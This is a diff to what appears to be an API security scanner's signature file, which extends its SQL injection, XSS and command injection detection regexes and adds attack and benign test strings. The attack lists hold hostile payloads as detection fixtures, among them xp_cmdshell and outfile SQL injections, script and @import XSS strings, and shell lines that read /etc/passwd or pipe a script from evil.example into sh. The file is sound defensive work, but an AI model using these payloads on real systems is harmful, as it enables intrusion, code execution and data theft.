@@ -20,7 +20,7 @@ export const SIGNATURES: Signature[] = [
     severity: 'high',
     owasp: 'API8:2023',
     cwe: 89,
-    where: ['query', 'cookie', 'json-value', 'path', 'header', 'body'],
+    where: ['query', 'cookie', 'json-value', 'path', 'header', 'body', 'query-name', 'json-key'],
     check: { kind: 'sqli' },
     attacks: [
       "' or 1=1--",
@@ -43,6 +43,15 @@ export const SIGNATURES: Signature[] = [
       { in: 'json-value', name: '$.id', value: '1 and extractvalue(1,concat(0x7e,version()))' },
       { in: 'header', name: 'x-user-id', value: "1' AND 1=CONVERT(int,@@version)--" },
       { in: 'cookie', name: 'session_lang', value: "en'; shutdown--" },
+      'union select',
+      'select load_file(',
+      ') as cc FROM users',
+      ';INSERT INTO users (name) VALUES',
+      'exec master..xp_cmdshell',
+      'FROM/**/INFORMATION_SCHEMA.tables',
+      "x' into outfile '/tmp/x'",
+      'declare @q varchar(99)',
+      { in: 'query-name', name: "id' or '1'='1", value: "id' or '1'='1" },
     ],
     benign: [
       'select',
@@ -60,7 +69,10 @@ export const SIGNATURES: Signature[] = [
       'order by price',
       "we're open 9-5; drop by anytime",
       "Can't login; delete my account",
-      'The Union (select group)',
+      'Union Square Select Hotel',
+      'Contact the user(s) of this account',
+      'Select one from the list',
+      '(see attached) as discussed',
       "'quoted' and more",
       { in: 'json-value', name: '$.comment', value: "I'd rather not; update me later -- thanks" },
     ],
@@ -72,11 +84,11 @@ export const SIGNATURES: Signature[] = [
     severity: 'high',
     owasp: 'API8:2023',
     cwe: 79,
-    where: ['query', 'json-value', 'path', 'cookie', 'header', 'body'],
+    where: ['query', 'json-value', 'path', 'cookie', 'header', 'body', 'query-name', 'json-key'],
     check: {
       kind: 'regex',
-      prefilter: ['<', 'script', '"', "'", 'expression', '{{'],
-      pattern: r`<script[\s>/]|<[a-z][a-z0-9-]*[\s/][^>]*?\bon[a-z]{3,}\s*=|(?:java|vb|live)script\s*:\s*(?:[\w$.\[\]'"]+\s*\(|[/\[('"$]|eval|alert|document|window|top|self|this|location)|<(?:iframe|frame|object|embed|applet|base|meta\b[^>]*http-equiv)\b|<[a-z]+[^>]*?(?:src|href|data|action|formaction|srcdoc)\s*=\s*["']?\s*data:text/html|['"]\s*[;)+,]\s*(?:alert|prompt|confirm|eval)\s*\(|<[a-z]+[^>]*style\s*=[^>]*expression\s*\(|\{\{\s*constructor\.constructor\s*\(`,
+      prefilter: ['<', 'script', '"', "'", 'expression', '{{', 'document.', 'window.', 'innerhtml', 'on'],
+      pattern: r`<(?:[a-z]+:)?script[\s>/]|(?=j\s*a\s*v\s*a\s*s\s*c\s*r\s*i\s*p\s*t\s*:)(?!javascript\s*:)j[a-z\s]{10,40}?:|v\s*b\s*s\s*c\s*r\s*i\s*p\s*t\s*:|\bdocument\s*\.\s*(?:cookie|write|domain)\b|\bwindow\s*\.\s*location\b|\.innerhtml\s*=|-moz-binding|\bbehavior\s*:\s*url\s*\(|<style[^>]*>[^<]*(?:@import|expression|javascript:|url\s*\()|<[a-z]+:[a-z]+[^>]*\bsrc\s*=|<\?import\b|['"]\s*(?:on[a-z]{3,}|formaction)\s*=|^\s*on[a-z]{4,}\s*=|<[a-z][a-z0-9-]*[\s/][^>]*?\bon[a-z]{3,}\s*=|(?:java|vb|live)script\s*:\s*(?:[\w$.\[\]'"]+\s*\(|[/\[('"$]|eval|alert|document|window|top|self|this|location)|<(?:iframe|frame|object|embed|applet|base|meta\b[^>]*http-equiv)\b|<[a-z]+[^>]*?(?:src|href|data|action|formaction|srcdoc)\s*=\s*["']?\s*data:text/html|['"]\s*[;)+,]\s*(?:alert|prompt|confirm|eval)\s*\(|<[a-z]+[^>]*style\s*=[^>]*expression\s*\(|\{\{\s*constructor\.constructor\s*\(`,
     },
     attacks: [
       '<script>alert(1)</script>',
@@ -93,6 +105,13 @@ export const SIGNATURES: Signature[] = [
       '<body onpageshow=alert(1)>',
       { in: 'json-value', name: '$.bio', value: '<details open ontoggle=alert(1)>' },
       { in: 'header', name: 'referer', value: 'https://x.example/"><script>alert(1)</script>' },
+      'ja&tab;vascript:alert(1)',
+      '<a href="vbscript:MsgBox+1">x</a>',
+      '<x:script xmlns:x="http://www.w3.org/1999/xhtml" src="data:,alert(1)" />',
+      'document.cookie=1',
+      "<STYLE>@import'http://evil.example/xss.css';</STYLE>",
+      '"onzoom=alert(1)',
+      { in: 'query-name', name: '<script>alert(1)</script>', value: '<script>alert(1)</script>' },
     ],
     benign: [
       'a < b and c > d',
@@ -103,6 +122,8 @@ export const SIGNATURES: Signature[] = [
       '<p>Hello</p>',
       'Email me at <john@example.com>',
       'x<y>z',
+      'only online orders',
+      'The document covers window locations',
       { in: 'json-value', name: '$.note', value: 'Said "hi"; then left (quietly)' },
     ],
   },
@@ -182,10 +203,10 @@ export const SIGNATURES: Signature[] = [
     severity: 'critical',
     owasp: 'API8:2023',
     cwe: 78,
-    where: ['query', 'json-value', 'path', 'cookie', 'header', 'body'],
+    where: ['query', 'json-value', 'path', 'cookie', 'header', 'body', 'query-name'],
     check: {
       kind: 'regex',
-      prefilter: [';', '|', '&', '`', '$', '\n', '/bin/'],
+      prefilter: [';', '|', '&', '`', '$', '\n', '/bin/', 'for', 'if'],
       pattern:
         r`(?:[;&|\n` +
         '`' +
@@ -199,7 +220,7 @@ export const SIGNATURES: Signature[] = [
         '`' +
         r`]*` +
         '`' +
-        r`|\bpowershell(?:\.exe)?\s+-(?:enc|e|encodedcommand|c|command)\b`,
+        r`|\bpowershell(?:\.exe)?\s+-(?:enc|e|encodedcommand|c|command)\b|(?:^|[;&|\n]\s*)for\s+(?:/[dflr]\s+(?:[a-z]:\\\S*\s+)?)*(?:"[^"]*"\s+)?%%?[~\w@]+\s+in\s*\(|(?:^|[;&|\n]\s*)if\s+(?:/i\s+)?(?:not\s+)?(?:errorlevel\s+\d|%\w+%|exist\s+\S*[\\:.%]|defined\s+\w+\s+(?:set|echo|call|goto|\()|\S+\s*(?:==|equ|neq|lss|leq|gtr|geq)\s*\S+\s+(?:echo|cmd|call|goto|set|del|copy|\())`,
     },
     attacks: [
       '; cat /etc/passwd',
@@ -217,6 +238,10 @@ export const SIGNATURES: Signature[] = [
       '; curl http://evil.example/x | sh',
       { in: 'json-value', name: '$.host', value: 'example.com && wget http://evil.example/a.sh' },
       { in: 'header', name: 'user-agent', value: '() { :; }; /bin/bash -c "id"' },
+      'for %variable in (set) do command',
+      '& FOR /F "delims=" %G IN (\'ECHO foo\') DO @Echo %G',
+      'IF %ERRORLEVEL% NEQ 0 echo test',
+      'if not 2 equ 2 echo hey',
     ],
     benign: [
       'Tom & Jerry',
@@ -229,6 +254,9 @@ export const SIGNATURES: Signature[] = [
       'R&D; id card renewal',
       'Price: $(5 off)',
       'Q&A | Help',
+      'for each item in (the list) do nothing',
+      'If not defined yet, use the default',
+      'Create the folder if not exist',
       { in: 'json-value', name: '$.text', value: 'Use `npm install` to set up' },
     ],
   },
